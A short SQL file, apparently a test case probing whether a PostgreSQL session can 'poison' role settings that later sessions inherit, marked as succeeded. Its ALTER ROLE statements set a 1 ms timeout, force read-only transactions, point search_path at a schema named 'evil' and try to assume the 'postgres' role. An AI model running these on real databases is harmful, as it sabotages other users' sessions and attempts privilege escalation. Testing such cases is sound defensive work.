-- tries: slow poison: settings that later sessions begin with
-- ends: SUCCEEDED
-- leaves: role setting
alter role current_user set statement_timeout = 1;
alter role current_user set quote_all_identifiers = on;
alter role current_user set standard_conforming_strings = off;
alter role current_user set default_transaction_read_only = on;
alter role current_user set search_path = evil;
alter role current_user set role = 'postgres';
